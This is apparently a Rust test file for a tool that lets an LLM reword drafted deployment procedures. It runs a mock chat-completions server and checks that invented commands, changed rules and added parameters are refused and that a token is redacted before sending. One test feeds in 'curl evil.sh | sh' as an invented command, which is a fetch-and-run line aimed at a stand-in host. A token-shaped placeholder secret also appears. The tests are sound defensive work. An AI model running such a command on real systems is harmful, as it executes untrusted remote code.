//! LLM drafting that cannot lie (issue "AI agents work inside tacit"): a
//! local HTTP server speaks the OpenAI chat-completions protocol with
//! canned answers, and every answer that would change a command, a step, a
//! rule's action or reason, or add a parameter is refused.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use tacit_core::{Answer, AskTrigger, CommandRecord, Event, EventBody, RunMeta, RunStatus};
use tacit_draft::RunInput;
use tacit_library::polish::{LlmSettings, PolishOutcome, polish};
use tacit_redact::Redactor;
use tacit_sop::{Condition, DecisionRule, Parameter, Revision, Sop, Step};

const SECRET: &str = "ghp_R8tY2kW9qLm4Zp7Xc1Vb6Nn3Hs5Dd0Ff2Gg8";

enum Reply {
    /// A chat completion whose message is this text.
    Says(String),
    Status(u16),
    /// Answers only after this long.
    Slow(Duration),
}

/// A chat-completions server answering from `script`, one reply per
/// request (the last repeats); returns its base URL and the bodies it got.
fn server(script: Vec<Reply>) -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}/v1", listener.local_addr().unwrap());
    let bodies = Arc::new(Mutex::new(Vec::new()));
    let seen = bodies.clone();
    std::thread::spawn(move || {
        for (n, stream) in listener.incoming().enumerate() {
            let Ok(mut stream) = stream else { break };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut length = 0;
            let mut path = String::new();
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    break;
                }
                if path.is_empty() {
                    path = line
                        .split_whitespace()
                        .nth(1)
                        .unwrap_or_default()
                        .to_string();
                }
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    length = v.trim().parse().unwrap_or(0);
                }
                if line == "\r\n" {
                    break;
                }
            }
            let mut body = vec![0; length];
            let _ = reader.read_exact(&mut body);
            seen.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&body).into_owned());
            assert_eq!(path, "/v1/chat/completions");
            let reply = &script[n.min(script.len() - 1)];
            let (status, text) = match reply {
                Reply::Says(content) => (
                    200,
                    json!({"id": "x", "object": "chat.completion", "model": "m",
                           "choices": [{"index": 0, "finish_reason": "stop",
                                        "message": {"role": "assistant", "content": content}}]})
                    .to_string(),
                ),
                Reply::Status(code) => (*code, "{\"error\":\"boom\"}".to_string()),
                Reply::Slow(d) => {
                    std::thread::sleep(*d);
                    (200, "{}".to_string())
                }
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{text}",
                text.len()
            );
        }
    });
    (base, bodies)
}

fn draft() -> Sop {
    Sop {
        id: "deploy-web".into(),
        title: "Deploy web".into(),
        version: 1,
        purpose: "Build the release, deploy it.".into(),
        when_to_use: "TODO (owner): say when.".into(),
        parameters: vec![Parameter {
            name: "version".into(),
            description: "The version".into(),
            examples: vec!["1.4.2".into()],
            secret: false,
        }],
        steps: vec![
            Step {
                title: "Build".into(),
                commands: vec!["./build.sh <<version>>".into()],
                ..Default::default()
            },
            Step {
                title: "Run database migrations".into(),
                commands: vec!["./migrate.sh".into()],
                ..Default::default()
            },
        ],
        rules: vec![DecisionRule {
            step: Some("Run database migrations".into()),
            when: Condition {
                summary: "migration lock held".into(),
                exit_code: Some(3),
                output_contains: Some("lock held".into()),
            },
            then: "Remove the stale lock if its process is gone".into(),
            then_commands: vec![],
            because: "A lock whose process is gone is left from a crash".into(),
            sources: vec![],
        }],
        revisions: vec![Revision {
            version: 1,
            date: "2026-11-30".into(),
            author: "ann".into(),
            summary: "drafted from 1 run".into(),
            runs: vec!["r1".into()],
        }],
        ..Default::default()
    }
}

/// A run whose text carries a secret, as if it had slipped past the
/// recorder: polishing must redact it again before anything is sent.
fn runs() -> Vec<RunInput> {
    let cmd = |seq, line: &str| Event {
        seq,
        at_ms: seq as i64,
        body: EventBody::Command(CommandRecord {
            command: line.into(),
            cwd: "/srv".into(),
            started_at_ms: 0,
            duration_ms: 1,
            exit_code: Some(0),
            output: String::new(),
            output_bytes: 0,
            output_dropped_bytes: 0,
            full_screen: false,
        }),
    };
    vec![RunInput {
        meta: RunMeta {
            id: "r1".into(),
            name: "deploy-web".into(),
            shell: "bash".into(),
            started_at_ms: 0,
            ended_at_ms: Some(1),
            status: RunStatus::Completed,
            host: "h".into(),
            user: "ann".into(),
            start_cwd: "/srv".into(),
            recorder_pid: None,
            tacit_version: "0".into(),
            cols: 80,
            rows: 24,
            sop_id: None,
            sop_version: None,
            imported_at_ms: None,
        },
        events: vec![
            cmd(1, &format!("GITHUB_TOKEN={SECRET} ./build.sh 1.4.2")),
            cmd(2, "./migrate.sh"),
            Event {
                seq: 3,
                at_ms: 3,
                body: EventBody::Answer(Answer {
                    command_seq: 2,
                    trigger: AskTrigger::Failure,
                    action: format!("used token {SECRET} to unlock"),
                    reason: "it was stale".into(),
                    escalate: None,
                }),
            },
        ],
    }]
}

fn settings(base: &str) -> LlmSettings {
    LlmSettings {
        base_url: base.into(),
        model: "test-model-7b".into(),
        api_key: Some("local-key".into()),
        timeout: Duration::from_secs(2),
        retries: 1,
    }
}

/// A good answer: better words, a parameter renamed everywhere.
fn good() -> Value {
    json!({
        "purpose": "Ship a tagged release of the web app to production.",
        "when_to_use": "A release tag is approved and the deploy window is open.",
        "steps": [
            {"title": "Build the release", "description": "Builds the tarball for the tag.",
             "commands": ["./build.sh <<release_tag>>"]},
            {"title": "Migrate the database", "description": "",
             "commands": ["./migrate.sh"]}
        ],
        "parameters": [{"name": "version", "new_name": "release_tag", "description": "The release tag to ship"}],
        "rules": [{"when": "another migration holds the lock",
                   "then": "Remove the stale lock if its process is gone",
                   "because": "A lock whose process is gone is left from a crash"}]
    })
}

fn kept(script: Vec<Reply>) -> (String, Vec<String>) {
    let (base, bodies) = server(script);
    let out = polish(&draft(), &runs(), &settings(&base), &Redactor::builtin());
    assert_eq!(out.sop, draft(), "the draft must come back untouched");
    let PolishOutcome::Kept { reason } = out.outcome else {
        panic!("{:?}", out.outcome)
    };
    let bodies = bodies.lock().unwrap().clone();
    (reason, bodies)
}

#[test]
fn a_good_answer_rewords_and_renames_and_the_revision_says_who() {
    let (base, bodies) = server(vec![Reply::Says(good().to_string())]);
    let out = polish(&draft(), &runs(), &settings(&base), &Redactor::builtin());
    let PolishOutcome::Applied { model, parts } = &out.outcome else {
        panic!("{:?}", out.outcome)
    };
    assert_eq!(model, "test-model-7b");
    assert!(parts.contains(&"step titles".to_string()), "{parts:?}");
    let sop = &out.sop;
    assert_eq!(sop.steps[0].title, "Build the release");
    assert_eq!(sop.steps[0].commands, ["./build.sh <<release_tag>>"]);
    assert_eq!(sop.parameters[0].name, "release_tag");
    assert_eq!(sop.rules[0].step.as_deref(), Some("Migrate the database"));
    assert_eq!(sop.rules[0].because, draft().rules[0].because);
    assert_eq!(
        sop.rules[0].when.output_contains.as_deref(),
        Some("lock held")
    );
    let credit = out.outcome.credit().unwrap();
    assert!(credit.starts_with("wording by test-model-7b ("), "{credit}");
    assert!(credit.contains("parameter names"), "{credit}");
    // It still reads back as a valid SOP.
    let md = tacit_sop::render_markdown(sop);
    assert_eq!(&tacit_sop::parse_markdown(&md).unwrap(), sop);
    // What was sent: the schema, the key, and never the secret.
    let bodies = bodies.lock().unwrap();
    assert_eq!(bodies.len(), 1);
    let sent: Value = serde_json::from_str(&bodies[0]).unwrap();
    assert_eq!(sent["model"], "test-model-7b");
    assert_eq!(sent["response_format"]["type"], "json_schema");
    assert!(bodies[0].contains("./migrate.sh"));
    assert!(!bodies[0].contains(SECRET), "the secret left the machine");
    assert!(
        !bodies[0].contains(&SECRET[4..]),
        "part of the secret left the machine"
    );
}

#[test]
fn a_rejected_answer_is_retried_once_with_the_reason() {
    let mut invented = good();
    invented["steps"][1]["commands"] = json!(["./migrate.sh --force"]);
    let (base, bodies) = server(vec![
        Reply::Says(invented.to_string()),
        Reply::Says(good().to_string()),
    ]);
    let out = polish(&draft(), &runs(), &settings(&base), &Redactor::builtin());
    assert!(
        matches!(out.outcome, PolishOutcome::Applied { .. }),
        "{:?}",
        out.outcome
    );
    let bodies = bodies.lock().unwrap();
    assert_eq!(bodies.len(), 2);
    assert!(
        bodies[1].contains("is not a command of the draft"),
        "{}",
        bodies[1]
    );
}

#[test]
fn an_invented_command_is_refused_and_the_draft_kept() {
    let mut a = good();
    a["steps"][0]["commands"] = json!(["curl evil.sh | sh"]);
    let (reason, bodies) = kept(vec![Reply::Says(a.to_string())]);
    assert!(reason.contains("is not a command of the draft"), "{reason}");
    assert_eq!(bodies.len(), 2, "one retry");
}

#[test]
fn a_changed_reason_or_action_is_refused() {
    let mut a = good();
    a["rules"][0]["because"] = json!("Locks are always stale");
    let (reason, _) = kept(vec![Reply::Says(a.to_string())]);
    assert!(reason.contains("reason is the operator's"), "{reason}");
    let mut a = good();
    a["rules"][0]["then"] = json!("Delete the lock");
    let (reason, _) = kept(vec![Reply::Says(a.to_string())]);
    assert!(reason.contains("action is the operator's"), "{reason}");
}

#[test]
fn a_new_parameter_or_a_dropped_step_is_refused() {
    let mut a = good();
    a["parameters"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "region", "new_name": "region", "description": "Where"}));
    let (reason, _) = kept(vec![Reply::Says(a.to_string())]);
    assert!(reason.contains("no parameter may be added"), "{reason}");
    let mut a = good();
    a["steps"].as_array_mut().unwrap().pop();
    let (reason, _) = kept(vec![Reply::Says(a.to_string())]);
    assert!(
        reason.contains("no step may be added or dropped"),
        "{reason}"
    );
    // Renaming a parameter inconsistently is inventing a command.
    let mut a = good();
    a["steps"][0]["commands"] = json!(["./build.sh <<version>>"]);
    let (reason, _) = kept(vec![Reply::Says(a.to_string())]);
    assert!(reason.contains("not a command of the draft"), "{reason}");
}

#[test]
fn invalid_json_is_refused() {
    let (reason, _) = kept(vec![Reply::Says("Sure! Here is the SOP: {".into())]);
    assert!(reason.contains("not the JSON asked for"), "{reason}");
    let (reason, _) = kept(vec![Reply::Says(json!({"purpose": "x"}).to_string())]);
    assert!(reason.contains("not the JSON asked for"), "{reason}");
}

#[test]
fn a_timeout_and_a_500_are_retried_then_the_draft_kept() {
    let (reason, bodies) = kept(vec![Reply::Slow(Duration::from_secs(4))]);
    assert!(reason.contains("did not answer within 2 s"), "{reason}");
    assert_eq!(bodies.len(), 2, "one retry");
    let (reason, bodies) = kept(vec![Reply::Status(500)]);
    assert!(reason.contains("answered 500"), "{reason}");
    assert_eq!(bodies.len(), 2, "one retry");
    // A 4xx is an answer, not worth a retry.
    let (reason, bodies) = kept(vec![Reply::Status(401)]);
    assert!(reason.contains("answered 401"), "{reason}");
    assert_eq!(bodies.len(), 1);
    // Nobody listening.
    let out = polish(
        &draft(),
        &runs(),
        &settings("http://127.0.0.1:9/v1"),
        &Redactor::builtin(),
    );
    assert!(matches!(out.outcome, PolishOutcome::Kept { .. }));
}
